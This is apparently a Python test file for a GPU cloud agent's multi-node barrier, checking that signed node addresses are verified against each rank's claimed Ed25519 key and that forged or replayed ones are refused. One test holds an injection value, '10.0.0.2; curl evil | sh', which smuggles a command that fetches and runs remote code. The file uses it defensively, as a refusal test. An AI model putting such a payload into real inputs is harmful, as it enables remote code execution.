"""The multi-node barrier's `ready` objects are signed by each node's own key and checked by every
rank against the one claim of the rank that wrote it (gpucloud/vm/agent/barrier.py). A reader of
user-data holds every rank's `ready_put` grant: what it writes there is refused, naming the rank.
Real Ed25519 keys (openssl, as on a node) over the fake channel of the agent's unit tests."""

from __future__ import annotations

from pathlib import Path

import pytest

from gpucloud.vm import protocol
from gpucloud.vm.agent.barrier import Barrier, ReadyKeys
from gpucloud.vm.agent.claim import NodeKey, verify
from gpucloud.vm.agent.stage_api import StageFailed
from tests.support.agent_fakes import FakeClock, FakeTransfer

RUN = "r-barrier-0001"


def manifest(nodes: int, rank: int, claims: bool = True) -> protocol.Manifest:
    lines = ["sign ed25519", f"ready_put mem://ready-{rank}"]
    lines += [f"ready_get {r} mem://ready-{r}" for r in range(nodes)]
    lines += [f"claims_get {r} mem://claims-{r}" for r in range(nodes)] if claims else []
    return protocol.parse_manifest("\n".join(lines))


def node_key(folder: Path) -> NodeKey:
    """A node's key as claim.py makes and publishes it (the publishing is the test's `claim`)."""
    folder.mkdir(parents=True, exist_ok=True)
    key = NodeKey(folder, lambda line: None)
    pub = key.make()
    assert pub is not None, "openssl with Ed25519 is needed"
    key.pub_path.write_text(pub + "\n")
    key.published_path.touch()
    key.mark_done()
    return key


def claim(store: dict[str, bytes], rank: int, key: NodeKey) -> None:
    """What `claims_get` answers: a listing naming each claim object (S3/file/ssh style)."""
    name = protocol.claim_name(key.public())
    store[f"mem://claims-{rank}"] = store.get(f"mem://claims-{rank}", b"") + f"runs/x/log/{name}\n".encode()


def barrier(tmp: Path, rank: int, key: NodeKey, transfer: FakeTransfer, nodes: int = 2, claims: bool = True) -> Barrier:
    clock = FakeClock()
    keys = ReadyKeys(RUN, key.public, lambda raw: key.sign(raw, clock.wait), verify)
    vm_dir = tmp / f"vm-{rank}"
    vm_dir.mkdir(exist_ok=True)
    return Barrier(
        manifest(nodes, rank, claims), transfer, vm_dir, rank, nodes, 30, clock.now, clock.sleep, 1.0, print,
        lambda: False, keys,
    )  # fmt: skip


class Pair:
    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.transfer = FakeTransfer()
        self.keys = [node_key(tmp / f"k{r}") for r in range(2)]
        for r, key in enumerate(self.keys):
            claim(self.transfer.store, r, key)

    def publish_node_1(self, ip: str = "10.0.0.2") -> None:
        barrier(self.tmp, 1, self.keys[1], self.transfer).publish(ip)

    def rank_0(self, claims: bool = True) -> Barrier:
        return barrier(self.tmp, 0, self.keys[0], self.transfer, claims=claims)


@pytest.fixture
def pair(tmp_path: Path) -> Pair:
    return Pair(tmp_path)


def test_signed_addresses_claimed_by_their_ranks_meet(pair: Pair) -> None:
    pair.publish_node_1()
    ready_1 = pair.transfer.store["mem://ready-1"]
    assert ready_1.startswith(b"10.0.0.2\nkey ") and b"\nsig " in ready_1  # the address stays the first line
    assert pair.rank_0().wait("10.0.0.1") == ["10.0.0.1", "10.0.0.2"]


def test_an_unsigned_address_written_through_the_grant_is_refused(pair: Pair) -> None:
    pair.transfer.store["mem://ready-1"] = b"6.6.6.6\n"
    with pytest.raises(StageFailed, match="node 1's address is not signed by the key in it"):
        pair.rank_0().wait("10.0.0.1")


def test_an_address_signed_by_another_key_is_refused(pair: Pair, tmp_path: Path) -> None:
    stranger = node_key(tmp_path / "stranger")
    sig = stranger.sign(protocol.ready_signed_bytes(RUN, 1, "6.6.6.6"), FakeClock().wait)
    pair.transfer.store["mem://ready-1"] = protocol.ready_text("6.6.6.6", stranger.public(), sig or "")
    with pytest.raises(StageFailed, match="node 1's address is signed by a key that does not claim node 1"):
        pair.rank_0().wait("10.0.0.1")
    claim(pair.transfer.store, 1, stranger)  # the stranger claims node 1 too: two claims
    with pytest.raises(StageFailed, match="node 1 is claimed by 2 keys"):
        pair.rank_0().wait("10.0.0.1")


def test_a_genuine_address_cannot_be_replayed_for_another_run_or_with_another_address(pair: Pair) -> None:
    pair.publish_node_1()
    genuine = pair.transfer.store["mem://ready-1"]
    pair.transfer.store["mem://ready-1"] = genuine.replace(b"10.0.0.2", b"6.6.6.6", 1)
    with pytest.raises(StageFailed, match="node 1's address is not signed"):
        pair.rank_0().wait("10.0.0.1")
    other = pair.rank_0()
    other.keys = ReadyKeys("r-other-run", other.keys.pub, other.keys.sign, verify)  # type: ignore[union-attr]
    pair.transfer.store["mem://ready-1"] = genuine
    with pytest.raises(StageFailed, match="node 1's address is not signed"):
        other.wait("10.0.0.1")


def test_no_claim_yet_is_waited_for_and_an_address_that_is_not_one_refused(pair: Pair) -> None:
    pair.publish_node_1()
    del pair.transfer.store["mem://claims-1"]
    with pytest.raises(StageFailed, match=r"node\(s\) 1 not ready after 30s"):
        pair.rank_0().wait("10.0.0.1")
    pair.transfer.store["mem://ready-1"] = b"10.0.0.2; curl evil | sh\n"
    with pytest.raises(StageFailed, match="node 1's ready object holds no address"):
        pair.rank_0(claims=False).wait("10.0.0.1")


def test_claim_listings_and_appended_claims_are_both_read(pair: Pair) -> None:
    pub = pair.keys[1].public()
    fp = protocol.fingerprint(pub)
    listing = f"<Key>runs/r/node-1/log/000000</Key><Key>runs/r/node-1/log/claim-{fp}</Key>".encode()
    assert protocol.claim_fingerprints(listing) == [fp]
    assert protocol.claim_fingerprints(f"{pub}\n".encode()) == [fp]  # Azure's appended claim lines
    assert len(protocol.claim_fingerprints(listing + f"\n{pair.keys[0].public()}\n".encode())) == 2
